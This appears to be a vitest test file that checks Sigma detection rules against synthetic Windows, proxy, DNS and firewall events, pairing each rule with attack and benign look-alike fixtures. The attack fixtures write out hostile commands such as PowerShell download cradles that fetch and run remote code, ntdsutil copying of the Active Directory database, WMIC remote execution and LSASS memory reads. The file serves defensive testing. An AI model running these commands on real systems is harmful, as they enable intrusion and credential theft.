import type { EcsEvent } from '@kunren/domain';
import { beforeAll, describe, expect, it } from 'vitest';
import { compileDocuments, evaluate, loadSigmaFiles } from '../src/index.js';
import type { SigmaCompileResult } from '../src/index.js';
import {
  firewallFlow,
  logon,
  mail,
  proxy,
  security,
  security4688,
  sysmon1,
  sysmon10,
  sysmon11,
  sysmon13,
  zeekDns,
} from './sigma-fixtures/ministryEvents.js';

const contentDir = new URL('../../../content/rules', import.meta.url).pathname;
const range = { from: '2026-03-09T00:00:00.000Z', to: '2026-03-10T00:00:00.000Z' };
const b64 = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const LSASS = 'C:\\Windows\\system32\\lsass.exe';

interface Case {
  readonly attack: readonly EcsEvent[];
  readonly benign: readonly EcsEvent[];
  /** For correlations: the group-by columns and values of the one row expected. */
  readonly group?: Readonly<Record<string, unknown>>;
}

const system7045 = (minutes: number, code: string): EcsEvent => {
  const e = security(minutes, 'fs01', code, {
    ServiceName: 'updsvc',
    ImagePath: 'C:\\Windows\\Temp\\u.exe',
  });
  return {
    ...e,
    event: { ...(e.event as object), dataset: 'windows.system' },
    winlog: {
      channel: 'System',
      event_id: code,
      provider_name: 'Service Control Manager',
      event_data: { ServiceName: 'updsvc' },
    },
  };
};

const cases: Readonly<Record<string, () => Case>> = {
  'Inbound Mail With an Archive Attachment': () => ({
    attack: [mail(0, 'inbound', ['Delegation_List.zip']), mail(1, 'inbound', ['photos.7z'])],
    benign: [mail(2, 'inbound', ['report.pdf']), mail(3, 'outbound', ['minutes.zip'])],
  }),
  'Hidden PowerShell Download Cradle': () => ({
    attack: [
      sysmon1(5, 'ws042', {
        image: PS,
        cmd: 'powershell.exe -NoP -W Hidden -Exec Bypass -C "iwr https://cdn.example/a.js -UseBasicParsing|iex"',
        parent: 'C:\\Windows\\explorer.exe',
      }),
    ],
    benign: [
      sysmon1(6, 'ws042', {
        image: PS,
        cmd: 'powershell.exe -Command "Get-Service | Where-Object {$_.Status -eq \'Stopped\'}"',
        parent: 'C:\\Windows\\explorer.exe',
      }),
      sysmon1(7, 'ws042', {
        image: PS,
        cmd: 'powershell.exe -W Hidden -File C:\\Scripts\\inventory.ps1',
        parent: 'C:\\Windows\\System32\\svchost.exe',
      }),
    ],
  }),
  'Rundll32 Loads a DLL From a User-Writable Folder': () => ({
    attack: [
      sysmon1(8, 'ws042', {
        image: 'C:\\Windows\\System32\\rundll32.exe',
        cmd: '"C:\\Windows\\System32\\rundll32.exe" C:\\Users\\a\\AppData\\Roaming\\Microsoft\\TeamsHelper.dll,DllRegisterServer',
        parent: PS,
      }),
    ],
    benign: [
      sysmon1(9, 'ws042', {
        image: 'C:\\Windows\\System32\\rundll32.exe',
        cmd: 'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL',
        parent: 'C:\\Windows\\explorer.exe',
      }),
    ],
  }),
  'Run Key Points to a Program in a User-Writable Folder': () => ({
    attack: [
      sysmon13(
        10,
        'ws042',
        'C:\\Windows\\System32\\rundll32.exe',
        'HKU\\S-1-5-21-1-2-3-1129\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\EdgeUpdateCore',
        'C:\\Windows\\System32\\rundll32.exe "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\TeamsHelper.dll",DllRegisterServer',
      ),
    ],
    benign: [
      sysmon13(
        11,
        'ws042',
        'C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe',
        'HKU\\S-1-5-21-1-2-3-1129\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive',
        '"C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
      ),
    ],
  }),
  'UAC Bypass Through the ms-settings Handler': () => ({
    attack: [
      sysmon13(
        12,
        'ws042',
        'C:\\Windows\\System32\\rundll32.exe',
        'HKU\\S-1-5-21-1-2-3-1129\\Software\\Classes\\ms-settings\\Shell\\Open\\command\\(Default)',
        'C:\\Windows\\System32\\rundll32.exe x.dll,DllRegisterServer',
      ),
    ],
    benign: [
      sysmon13(
        13,
        'ws042',
        'C:\\Windows\\explorer.exe',
        'HKU\\S-1-5-21-1-2-3-1129\\Software\\Classes\\.txt\\OpenWithList\\a',
        'notepad.exe',
      ),
    ],
  }),
  'Discovery Commands Started by Rundll32 or a Script Host': () => ({
    attack: [
      sysmon1(14, 'ws042', {
        image: 'C:\\Windows\\System32\\nltest.exe',
        cmd: 'nltest /dclist:mec.go.example',
        parent: 'C:\\Windows\\System32\\rundll32.exe',
      }),
    ],
    benign: [
      sysmon1(15, 'adm01', {
        image: 'C:\\Windows\\System32\\nltest.exe',
        cmd: 'nltest /dclist:mec.go.example',
        parent: 'C:\\Windows\\System32\\cmd.exe',
      }),
    ],
  }),
  'WMIC Creates a Process on a Remote Host': () => ({
    attack: [
      sysmon1(16, 'fs01', {
        image: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
        cmd: 'wmic /node:dc01 /user:MEC\\adm process call create "cmd.exe /Q /c C:\\Windows\\Temp\\x.exe"',
        parent: 'C:\\Windows\\svchostx.exe',
      }),
    ],
    benign: [
      sysmon1(17, 'adm01', {
        image: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
        cmd: 'wmic /node:fs01 logicaldisk get size,freespace',
        parent: 'C:\\Windows\\System32\\cmd.exe',
      }),
    ],
  }),
  'Active Directory Database Copied With ntdsutil IFM': () => ({
    attack: [
      sysmon1(18, 'dc01', {
        image: 'C:\\Windows\\System32\\ntdsutil.exe',
        cmd: 'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q',
        parent: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      }),
    ],
    benign: [
      sysmon1(19, 'dc01', {
        image: 'C:\\Windows\\System32\\ntdsutil.exe',
        cmd: 'ntdsutil "activate instance ntds" "files" "info" q q',
        parent: 'C:\\Windows\\System32\\cmd.exe',
      }),
    ],
  }),
  'Executable Written Into ProgramData': () => ({
    attack: [
      sysmon11(20, 'fs01', 'C:\\Windows\\svchostx.exe', 'C:\\ProgramData\\PerfLogsX\\ra.exe'),
      sysmon11(21, 'fs01', 'C:\\Windows\\svchostx.exe', 'C:\\ProgramData\\PerfLogsX\\wermgrx.exe'),
    ],
    benign: [
      sysmon11(
        22,
        'fs01',
        'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe',
        'C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\x\\mpengine.dll',
      ),
      sysmon11(
        23,
        'fs01',
        'C:\\Windows\\explorer.exe',
        'C:\\Windows\\System32\\drivers\\etc\\x.exe',
      ),
    ],
  }),
  'Robocopy Collects Documents Into a Local Folder': () => ({
    attack: [
      sysmon1(24, 'fs01', {
        image: 'C:\\Windows\\System32\\Robocopy.exe',
        cmd: 'robocopy D:\\Shares\\IC C:\\ProgramData\\PerfLogsX\\d *.docx *.pdf /S',
        parent: 'C:\\Windows\\svchostx.exe',
      }),
    ],
    benign: [
      sysmon1(25, 'fs01', {
        image: 'C:\\Windows\\System32\\Robocopy.exe',
        cmd: 'robocopy D:\\Shares \\\\bak01\\backup\\shares /MIR',
        parent: 'C:\\Windows\\System32\\cmd.exe',
      }),
    ],
  }),
  'PowerShell User Agent Fetching From the Internet': () => ({
    attack: [
      proxy(
        26,
        '10.10.1.42',
        'cdn.example',
        'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.4111',
      ),
    ],
    benign: [
      proxy(
        27,
        '10.10.1.42',
        'www.nikkei.com',
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:135.0) Gecko/20100101 Firefox/135.0',
      ),
    ],
  }),
  'Frequent Requests From One Host to an Uncommon Domain': () => ({
    attack: Array.from({ length: 11 }, (_, i) =>
      proxy(
        30 + i * 2,
        '10.10.1.42',
        'syncdelivery.live',
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko',
      ),
    ),
    benign: [
      ...Array.from({ length: 20 }, (_, i) =>
        proxy(30 + i * 2, '10.10.2.77', 'teams.microsoft.com', 'Mozilla/5.0 Teams/25.1.0.0'),
      ),
      ...Array.from({ length: 5 }, (_, i) =>
        proxy(30 + i * 10, '10.10.2.77', 'www.nikkei.com', 'Mozilla/5.0 Chrome/133.0.0.0'),
      ),
    ],
    group: { 'source.ip': '10.10.1.42', 'url.domain': 'syncdelivery.live', event_count: 11 },
  }),
  'Inbound Mail With Macro Document or Shortcut Attachment': () => ({
    attack: [
      mail(0, 'inbound', ['Invoice_0309.docm']),
      mail(1, 'inbound', ['photos.zip', 'scan.pdf.lnk']),
    ],
    benign: [mail(2, 'inbound', ['report.pdf']), mail(3, 'outbound', ['budget.xlsm'])],
  }),
  'Office Application Starts a Script Host or Shell': () => ({
    attack: [
      sysmon1(5, 'ws042', {
        image: PS,
        cmd: 'powershell -nop -w hidden -c iex(iwr http://x/a)',
        parent: WORD,
      }),
      security4688(6, 'ws042', {
        image: 'C:\\Windows\\System32\\cmd.exe',
        cmd: 'cmd /c whoami',
        parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
      }),
    ],
    benign: [
      sysmon1(7, 'ws042', { image: PS, cmd: 'powershell', parent: 'C:\\Windows\\explorer.exe' }),
      sysmon1(8, 'ws042', {
        image: 'C:\\Windows\\splwow64.exe',
        cmd: 'splwow64.exe 8192',
        parent: WORD,
      }),
    ],
  }),
  'PowerShell With an Encoded Command': () => ({
    attack: [
      sysmon1(10, 'ws042', {
        image: PS,
        cmd: `powershell.exe -nop -w hidden -enc ${b64}`,
        parent: WORD,
        original: 'PowerShell.EXE',
      }),
      sysmon1(11, 'ws077', {
        image: 'C:\\Temp\\svc.exe',
        cmd: `svc.exe /EncodedCommand ${b64}`,
        parent: 'C:\\Windows\\explorer.exe',
        original: 'PowerShell.EXE',
      }),
    ],
    benign: [
      sysmon1(12, 'ws042', {
        image: PS,
        cmd: 'powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1',
        parent: 'C:\\Windows\\explorer.exe',
      }),
      sysmon1(13, 'ws042', {
        image: PS,
        cmd: 'powershell.exe -enc SGVsbG8=',
        parent: 'C:\\Windows\\explorer.exe',
      }),
    ],
  }),
  'Shell or Script Started by WMI Provider Host': () => ({
    attack: [
      sysmon1(20, 'fs01', {
        image: 'C:\\Windows\\System32\\cmd.exe',
        cmd: 'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1',
        parent: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      }),
    ],
    benign: [
      sysmon1(21, 'fs01', {
        image: 'C:\\Windows\\System32\\WerFault.exe',
        cmd: 'WerFault.exe -u -p 1234',
        parent: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      }),
      sysmon1(22, 'fs01', {
        image: 'C:\\Windows\\System32\\cmd.exe',
        cmd: 'cmd.exe /c dir',
        parent: 'C:\\Windows\\explorer.exe',
      }),
    ],
  }),
  'Archive Created With RAR or 7-Zip Command Line': () => ({
    attack: [
      sysmon1(30, 'fs01', {
        image: 'C:\\ProgramData\\7za.exe',
        cmd: '7za.exe a -pInfected1 -mhe=on C:\\ProgramData\\d.7z C:\\Shares\\Budget',
        parent: 'C:\\Windows\\System32\\cmd.exe',
      }),
    ],
    benign: [
      sysmon1(31, 'ws042', {
        image: 'C:\\Program Files\\7-Zip\\7z.exe',
        cmd: '7z.exe x C:\\Users\\a\\Downloads\\drivers.7z',
        parent: 'C:\\Windows\\explorer.exe',
      }),
    ],
  }),
  'LSASS Process Memory Read': () => ({
    attack: [sysmon10(40, 'ws042', 'C:\\Users\\Public\\m64.exe', LSASS, '0x1010')],
    benign: [
      sysmon10(
        41,
        'ws042',
        'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2302.7-0\\MsMpEng.exe',
        LSASS,
        '0x1010',
      ),
      sysmon10(42, 'ws042', 'C:\\Windows\\System32\\svchost.exe', LSASS, '0x1fffff'),
      sysmon10(43, 'ws042', 'C:\\Users\\Public\\m64.exe', LSASS, '0x1000'),
      sysmon10(44, 'ws042', 'C:\\Users\\Public\\m64.exe', 'C:\\Windows\\explorer.exe', '0x1010'),
    ],
  }),
  'New Service Installed': () => ({
    attack: [
      security(
        50,
        'fs01',
        '4697',
        { ServiceFileName: 'C:\\Program Files\\Vendor\\agent.exe' },
        { service: { name: 'VendorAgent' } },
      ),
    ],
    benign: [logon(51, 'fs01', '4624', 'a.sato', '10.30.0.11')],
  }),
  'Service Installed With a Suspicious Binary Path': () => ({
    attack: [
      security(
        52,
        'fs01',
        '4697',
        { ServiceFileName: `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc ${b64}` },
        { service: { name: 'a1b2c3d' } },
      ),
      security(
        53,
        'dc01',
        '4697',
        { ServiceFileName: '%SystemRoot%\\PSEXESVC.exe' },
        { service: { name: 'PSEXESVC' } },
      ),
    ],
    benign: [
      security(
        54,
        'fs01',
        '4697',
        { ServiceFileName: 'C:\\Program Files\\Vendor\\agent.exe' },
        { service: { name: 'VendorAgent' } },
      ),
    ],
  }),
  'New Service Installed (System Log)': () => ({
    attack: [system7045(55, '7045')],
    benign: [system7045(56, '7036')],
  }),
  'Scheduled Task Created With a Script or User-Writable Path': () => ({
    attack: [
      security(60, 'ws042', '4698', {
        TaskName: '\\OneDrive Sync',
        TaskContent:
          '<Exec><Command>powershell.exe</Command><Arguments>-w hidden -f C:\\Users\\a\\AppData\\Local\\s.ps1</Arguments></Exec>',
      }),
    ],
    benign: [
      security(61, 'ws042', '4698', {
        TaskName: '\\Vendor Update',
        TaskContent: '<Exec><Command>C:\\Program Files\\Vendor\\update.exe</Command></Exec>',
      }),
    ],
  }),
  'Security Event Log Cleared': () => ({
    attack: [security(70, 'dc01', '1102', {})],
    benign: [logon(71, 'dc01', '4624', 'a.sato', '10.30.0.11')],
  }),
  'Member Added to a Privileged Group': () => ({
    attack: [
      security(80, 'dc01', '4728', {
        TargetUserName: 'Domain Admins',
        MemberName: 'CN=svc backup',
        SubjectUserName: 'it.admin',
      }),
      security(81, 'ws042', '4732', {
        TargetUserName: 'Administrators',
        TargetSid: 'S-1-5-32-544',
      }),
    ],
    benign: [
      security(82, 'dc01', '4728', {
        TargetUserName: 'Finance Team',
        TargetSid: 'S-1-5-21-1-2-3-1107',
      }),
    ],
  }),
  'RDP Logon to a Server From a Workstation Subnet': () => ({
    attack: [logon(90, 'fs01', '4624', 'k.tanaka', '10.10.1.42', 10)],
    benign: [
      logon(91, 'fs01', '4624', 'it.admin', '10.30.0.11', 10),
      logon(92, 'fs01', '4624', 'k.tanaka', '10.10.1.42', 3),
      logon(93, 'ws077', '4624', 'k.tanaka', '10.10.1.42', 10),
    ],
  }),
  'Many Failed Logons From One Source': () => ({
    attack: Array.from({ length: 12 }, (_, i) =>
      logon(120 + i * 0.25, 'dc01', '4625', 'k.tanaka', '10.10.2.77'),
    ),
    benign: [
      ...Array.from({ length: 5 }, (_, i) =>
        logon(121 + i * 0.3, 'dc01', '4625', 'a.sato', '10.10.2.5'),
      ),
      ...Array.from({ length: 12 }, (_, i) =>
        logon(180 + i * 5, 'dc01', '4625', 'b.ito', '10.10.2.6'),
      ),
    ],
    group: { 'source.ip': '10.10.2.77', event_count: 12 },
  }),
  'Password Spraying From One Source': () => ({
    attack: ['a', 'b', 'c', 'd', 'e', 'f'].map((u, i) =>
      logon(240 + i * 0.5, 'dc01', '4625', `user.${u}`, '10.10.2.99'),
    ),
    benign: Array.from({ length: 8 }, (_, i) =>
      logon(241 + i * 0.5, 'dc01', '4625', 'k.tanaka', '10.10.2.77'),
    ),
    group: { 'source.ip': '10.10.2.99', value_count: 6 },
  }),
  'Failed Logons Followed by a Successful Logon': () => ({
    attack: [
      logon(300.5, 'fs01', '4625', 'k.tanaka', '10.10.2.77'),
      logon(302, 'fs01', '4624', 'k.tanaka', '10.10.2.77', 3),
    ],
    benign: [
      logon(300.2, 'fs01', '4624', 'a.sato', '10.10.2.5', 3),
      logon(301, 'fs01', '4625', 'a.sato', '10.10.2.5'),
    ],
    group: { 'source.ip': '10.10.2.77', 'winlog.event_data.TargetUserName': 'k.tanaka' },
  }),
  'Regular Lookups of an Uncommon Domain by One Host': () => ({
    attack: Array.from({ length: 24 }, (_, i) =>
      zeekDns(360 + 1 + i * 2, '10.10.1.42', 'cdn-update.gov-portal-sync.net'),
    ),
    benign: [
      ...Array.from({ length: 24 }, (_, i) =>
        zeekDns(360 + 1 + i * 2, '10.10.1.42', 'www.microsoft.com'),
      ),
      ...Array.from({ length: 5 }, (_, i) =>
        zeekDns(360 + 2 + i * 2, '10.10.2.5', 'cdn-update.gov-portal-sync.net'),
      ),
    ],
    group: {
      'source.ip': '10.10.1.42',
      'dns.question.name': 'cdn-update.gov-portal-sync.net',
      event_count: 24,
    },
  }),
  'Large Outbound Transfer From One Internal Host': () => ({
    attack: Array.from({ length: 5 }, (_, i) =>
      firewallFlow(420 + i * 5, '10.10.1.42', '203.0.113.50', 60_000_000),
    ),
    benign: [
      ...Array.from({ length: 5 }, (_, i) =>
        firewallFlow(421 + i * 5, '203.0.113.9', '10.20.0.30', 60_000_000, 'inbound'),
      ),
      ...Array.from({ length: 3 }, (_, i) =>
        firewallFlow(422 + i * 5, '10.10.2.5', '198.51.100.7', 60_000_000),
      ),
      ...Array.from({ length: 5 }, (_, i) =>
        firewallFlow(423 + i * 5, '10.10.2.6', '198.51.100.8', 60_000_000, 'outbound', true),
      ),
    ],
    group: { 'source.ip': '10.10.1.42', 'destination.ip': '203.0.113.50', value_sum: 300_000_000 },
  }),
};

const eventId = (e: EcsEvent): string => String((e.event as { id: string }).id);

describe('the built-in rules fire on their attack and not on benign look-alikes (reference interpreter)', () => {
  let results: SigmaCompileResult[] = [];
  beforeAll(async () => {
    results = compileDocuments((await loadSigmaFiles([contentDir])).documents);
  });

  it('every built-in rule has a case here', () => {
    expect(results.map((r) => r.meta.title).sort()).toEqual(Object.keys(cases).sort());
  });

  for (const [title, make] of Object.entries(cases)) {
    it(title, () => {
      const r = results.find((x) => x.meta.title === title);
      if (!r?.ok) throw new Error(`${title} did not compile`);
      const c = make();
      const out = evaluate(r.query, [...c.benign, ...c.attack], { range, maxRows: 1000 });
      if (c.group === undefined) {
        expect(out.rawEvents).toBe(true);
        const ids = out.rows.map((row) => String((row.event as { id: string }).id)).sort();
        expect(ids).toEqual(c.attack.map(eventId).sort());
      } else {
        expect(out.rows.length).toBe(1);
        expect(out.rows[0]).toMatchObject(c.group);
        const none = evaluate(r.query, c.benign, { range, maxRows: 1000 });
        expect(none.rows).toEqual([]);
      }
    });
  }
});
